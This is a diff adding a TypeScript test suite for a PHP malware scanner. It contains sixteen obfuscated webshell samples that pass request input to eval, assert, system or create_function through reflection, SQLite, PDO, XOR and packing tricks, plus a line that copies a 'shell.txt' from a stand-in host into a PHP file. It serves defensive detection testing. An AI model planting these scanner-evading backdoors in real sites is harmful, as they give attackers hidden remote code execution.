@@ -1,0 +1,124 @@
+// Back doors written to slip past scanners, as the public bypass collections spell them: a
+// function handed to an object to call later (an ArrayObject's sort, an SQLite function, PDO's
+// FETCH_FUNC, a ReflectionFunction), a superglobal named at run time (`${'_' . $x}`), code a
+// create_function builds from pieces, numbers XORed into character codes, a reference to a
+// function name, eval of text appended piece by piece, a variable that reads itself unset, an
+// array filled with `$a[] =`, a file decoder that reassigns its parameter, a function name kept
+// in a doc comment, and a script copied from another host as PHP. Defanged samples written here
+// (the commands are `id`), beside vendor code that uses the same calls for their everyday work.
+
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { deflateRawSync } from 'node:zlib';
+import { loadCodeRules } from '../../../src/integrity/scan/rules.ts';
+import { scanContent } from '../../../src/integrity/scan/scanner.ts';
+
+const rules = loadCodeRules();
+const ruleIds = (text: string) => scanContent(text, { path: 'x.php', rel: 'x.php' }, rules).map((f) => f.rule);
+
+// What a packer's own decoder undoes: deflate, base64, then each byte shifted up by one.
+const packed = (code: string) =>
+  deflateRawSync(
+    Buffer.from([...code].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join(''), 'latin1'),
+  ).toString('base64');
+
+const b64 = (s: string) => Buffer.from(s).toString('base64');
+
+const backdoors: [string, string][] = [
+  [
+    'an ArrayObject sorted by assert',
+    `<?php\n$a = new ArrayObject(array('x', $_REQUEST['p']));\n$a->uasort('assert');\n`,
+  ],
+  [
+    'keys sorted by assert',
+    `<?php\n$a = new ArrayIterator(array($_POST['p'] => 1, 'x' => 2));\n$a->uksort('assert');\n`,
+  ],
+  [
+    'an SQLite function the request names',
+    `<?php\n$e = $_REQUEST['e'];\n$db = new SQLite3(':memory:');\n$db->createFunction('f', $e);\n$st = $db->prepare('SELECT f(?)');\n$st->bindValue(1, $_REQUEST['p']);\n$st->execute();\n`,
+  ],
+  [
+    "PDO's FETCH_FUNC with a rot13'd assert",
+    `<?php\n$db = new PDO('sqlite::memory:');\n$st = $db->query("SELECT 'x'");\n$st->fetchAll(PDO::FETCH_FUNC, str_rot13('nffreg'));\n`,
+  ],
+  [
+    'a ReflectionFunction of assert invoked on the request',
+    `<?php\n$r = new ReflectionFunction('assert');\n$r->invoke($_POST['c']);\n`,
+  ],
+  [
+    'a ReflectionFunction of system invoked with arguments',
+    `<?php\n$r = new ReflectionFunction('system');\necho $r->invokeArgs(array("$_GET[c]"));\n`,
+  ],
+  ['a superglobal named at run time', `<?php\n\${'_' . $_}['_'](\${'_' . $_}['__']);\n`],
+  [
+    'create_function of code written in pieces',
+    `<?php\n$f = create_function('', 'ev' . 'al' . '($_' . 'GET' . '["c"]);');\n$f();\n`,
+  ],
+  [
+    'character codes XORed',
+    `<?php\n$a = chr(96^5) . chr(57^79) . chr(15^110) . chr(58^86);\n@assert($a . '($_REQUEST[c])');\n`,
+  ],
+  [
+    'a reference to a decoded function name',
+    `<?php\nfunction h($u) { $b = 's' . 'tr_r' . 'ot13'; $c = &$b; $a = $c('nffreg'); $a($u); }\nh($_POST['c']);\n`,
+  ],
+  [
+    'eval of text appended piece by piece',
+    `<?php\n$t = "ev";\n$t .= "al(";\n$t .= "\\$_PO";\n$t .= "ST[1]);";\neval($t);\n`,
+  ],
+  [
+    'a name built on a variable that reads itself unset',
+    `<?php\n$k = $k . substr('xxxxcreate_func', 4, 11);\n$k = $k . 'tion';\n$d = $d . 'base64' . '_decode';\n$f = $k('', $d('${b64('eval($_POST[1]);')}'));\n$f();\n`,
+  ],
+  [
+    'functions named by an array filled with []',
+    `<?php\n$v = 'abcdefghijklmnopqrstuvwxyz';\n$t[] = $v{18} . $v{19} . $v{17} . $v{11} . $v{4} . $v{13};\n$t[] = $v{2} . $v{17} . $v{4} . $v{0} . $v{19} . $v{4} . '_' . $v{5} . $v{20} . $v{13} . $v{2} . $v{19} . $v{8} . $v{14} . $v{13};\n$p = $_POST['p'];\n$g = $t[1]('', $p);\n$g();\n`,
+  ],
+  [
+    'a decoder that reassigns its parameter, its result run',
+    `<?php\nfunction d($s) {\n  $s = gzinflate(base64_decode($s));\n  for ($i = 0; $i < strlen($s); $i++) {\n    $s[$i] = chr(ord($s[$i]) - 1);\n  }\n  return $s;\n}\neval(d("${packed('system($_GET["c"]);')}"));\n`,
+  ],
+  [
+    'a function name kept in a doc comment',
+    `<?php\n/**\n * assert\n */\nclass T {}\n$r = new ReflectionClass('T');\n$s = $r->getDocComment();\n$f = substr($s, 7, 6);\n$f($s);\n`,
+  ],
+  ['a script copied from another host as PHP', `<?php\ncopy('http://example.invalid/shell.txt', 'x.php');\n`],
+];
+
+const vendor: [string, string][] = [
+  ['an ArrayObject sorted by a comparison', `<?php\n$a = new ArrayObject($_POST['items']);\n$a->uasort('strcmp');\n`],
+  [
+    'an SQLite function of the application',
+    `<?php\n$db = new SQLite3('app.db');\n$db->createFunction('regexp', 'preg_match', 2);\n$db->query('SELECT 1');\n`,
+  ],
+  [
+    'rows fetched into objects',
+    `<?php\n$st = $pdo->prepare('SELECT * FROM t WHERE id = ?');\n$st->execute([$_GET['id']]);\n$rows = $st->fetchAll(PDO::FETCH_ASSOC);\n`,
+  ],
+  [
+    "reflection reading a controller's doc comment",
+    `<?php\n$r = new ReflectionMethod($controller, $action);\n$doc = $r->getDocComment();\nif (strpos($doc, '@admin') !== false) { $this->requireAdmin(); }\n`,
+  ],
+  ['a ReflectionFunction of a closure', `<?php\n$r = new ReflectionFunction($handler);\n$r->invokeArgs([$request]);\n`],
+  ['a media file copied locally', `<?php\ncopy('http://cdn.example.com/logo.png', 'media/logo.png');\n`],
+  [
+    'a request method picked by name',
+    `<?php\n$method = 'GET';\n$data = \${'_' . $method};\necho htmlspecialchars($data['q'] ?? '');\n`,
+  ],
+  ['a string appended and printed', `<?php\n$html = '<ul>';\n$html .= '<li>a</li>';\n$html .= '</ul>';\necho $html;\n`],
+];
+
+describe('back doors written to pass scanners', () => {
+  for (const [name, code] of backdoors)
+    it(`${name} is found`, () => {
+      const ids = ruleIds(code);
+      assert.ok(ids.length > 0, `${name}: nothing found`);
+    });
+  it("the decoder's output is read: the shell it runs is named, not only the packing", () => {
+    const decoder = backdoors.find(([name]) => name.startsWith('a decoder that reassigns'))?.[1] ?? '';
+    assert.ok(ruleIds(decoder).includes('php-request-to-shell'), ruleIds(decoder).join(', '));
+  });
+  it('vendor code using the same calls for everyday work is clean', () => {
+    for (const [name, code] of vendor) assert.deepEqual(ruleIds(code), [], name);
+  });
+});
